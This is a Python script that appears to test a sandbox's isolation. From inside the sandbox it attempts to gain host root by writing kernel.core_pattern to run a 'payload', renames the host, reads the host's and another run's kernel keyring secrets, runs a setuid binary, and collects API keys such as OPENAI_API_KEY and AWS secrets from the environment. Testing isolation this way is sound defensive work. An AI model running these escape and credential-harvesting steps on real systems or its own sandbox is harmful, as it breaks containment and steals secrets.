"""A sandboxed run that tries to take the host: become root through the kernel's settings
(kernel.core_pattern runs a program of its choosing as root when anything dumps core), rename the
host, read keys the host's root or another run keeps in the kernel's keyrings, gain root through a
setuid binary, and find the runner's API keys in its environment. One JSON report line on its log.

Its role comes from its trajectory: ``…-t01-…`` (the keeper) adds keys of its own to its session and
user keyrings and writes their ids to the shared folder (``GRAB_SHARED``); ``…-t02-…`` (the reader)
waits for them and tries to read them. Both hold ``GRAB_FORKS`` processes at once, and try the rest.
Standard library only."""

import ctypes
import json
import os
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import attempt  # noqa: E402

REPORT = "STEPMILL-HOST-GRAB-REPORT "
SYS_ADD_KEY, SYS_KEYCTL = 248, 250  # x86_64
KEY_SPEC_SESSION, KEY_SPEC_USER = -3, -4
KEYCTL_SEARCH, KEYCTL_READ = 10, 11
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def check(result: int) -> int:
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result


def add_key(description: str, payload: bytes, keyring: int) -> int:
    return check(libc.syscall(SYS_ADD_KEY, b"user", description.encode(), payload, len(payload),
                              ctypes.c_long(keyring)))


def read_key(key: int) -> str:
    buffer = ctypes.create_string_buffer(4096)
    size = check(libc.syscall(SYS_KEYCTL, KEYCTL_READ, ctypes.c_long(key), buffer, 4096))
    return buffer.raw[:size].decode(errors="replace")


def search(keyring: int, description: str) -> int:
    return check(libc.syscall(SYS_KEYCTL, KEYCTL_SEARCH, ctypes.c_long(keyring), b"user", description.encode(),
                              ctypes.c_long(0)))


def write(path: str, text: str) -> str:
    with open(path, "w") as handle:
        handle.write(text)
    with open(path) as handle:
        return handle.read()


def sethostname(name: bytes) -> str:
    check(libc.sethostname(name, len(name)))
    return socket.gethostname()


def identity() -> dict:
    status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
    return {"uid": os.getuid(), "euid": os.geteuid(), "uid_map": open("/proc/self/uid_map").read().split(),
            "cap_eff": status["CapEff"].strip(), "hostname": socket.gethostname()}


def keys_of_host(attempts: dict) -> None:
    host_key = int(os.environ["GRAB_HOST_KEY"])
    attempts["host_key_read"] = attempt(read_key, host_key)
    for name, ring in (("session", KEY_SPEC_SESSION), ("user", KEY_SPEC_USER)):
        attempts[f"host_key_search_{name}"] = attempt(search, ring, os.environ["GRAB_HOST_KEY_NAME"])


def keys_of_another_run(attempts: dict, role: str, shared: str) -> None:
    if role == "keeper":
        ids = {name: attempt(add_key, f"stepmill-run-key-{name}", f"RUN-SECRET-{name}".encode(), ring)
               for name, ring in (("session", KEY_SPEC_SESSION), ("user", KEY_SPEC_USER))}
        attempts["own_keys"] = ids
        attempts["own_key_read"] = {name: attempt(read_key, got["value"]) for name, got in ids.items() if got["ok"]}
        write(os.path.join(shared, "keys.json"), json.dumps({n: g.get("value") for n, g in ids.items()}))
        deadline = time.time() + 30
        while time.time() < deadline and not os.path.exists(os.path.join(shared, "read.done")):
            time.sleep(0.2)  # its keys stay alive while the reader tries them
        return
    deadline = time.time() + 30
    while time.time() < deadline and not os.path.exists(os.path.join(shared, "keys.json")):
        time.sleep(0.2)
    ids = json.load(open(os.path.join(shared, "keys.json")))
    attempts["other_run_key_read"] = {name: attempt(read_key, key) for name, key in ids.items() if key}
    attempts["other_run_key_search"] = {name: attempt(search, ring, f"stepmill-run-key-{name}")
                                        for name, ring in (("session", KEY_SPEC_SESSION), ("user", KEY_SPEC_USER))}
    write(os.path.join(shared, "read.done"), "1")


def fork(count: int) -> dict:
    """``count`` processes that sleep while the other run starts as many: each run's count is its own."""
    started, error = 0, None
    for _ in range(count):
        try:
            if os.fork() == 0:
                time.sleep(12)
                os._exit(0)
            started += 1
        except OSError as exc:
            error = str(exc)
            break
    return {"started": started, "error": error}


def main() -> None:
    trajectory = os.environ.get("STEPMILL_TRAJECTORY", "")
    role = "keeper" if "-t01-" in trajectory else "reader"
    attempts = {"forks": fork(int(os.environ.get("GRAB_FORKS", "0"))), "identity": attempt(identity), "role": role}
    attempts["core_pattern"] = attempt(write, "/proc/sys/kernel/core_pattern", f"|{os.getcwd()}/payload")
    attempts["hostname_sysctl"] = attempt(write, "/proc/sys/kernel/hostname", "grabbed")
    attempts["sethostname"] = attempt(sethostname, b"grabbed")
    attempts["setuid_id"] = attempt(lambda: subprocess.run([os.environ["GRAB_SETUID"], "-u"], capture_output=True,
                                                           text=True, timeout=10).stdout.strip())
    attempts["environment"] = {name: os.environ.get(name) for name in
                               ("OPENAI_API_KEY", "HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "AWS_ACCESS_KEY_ID",
                                "GRAB_PASSED", "GRAB_RECIPE", "PATH", "HOME", "LANG", "TERM")}
    keys_of_host(attempts)
    keys_of_another_run(attempts, role, os.environ["GRAB_SHARED"])
    os.write(1, (REPORT + json.dumps(attempts) + "\n").encode())


if __name__ == "__main__":
    main()
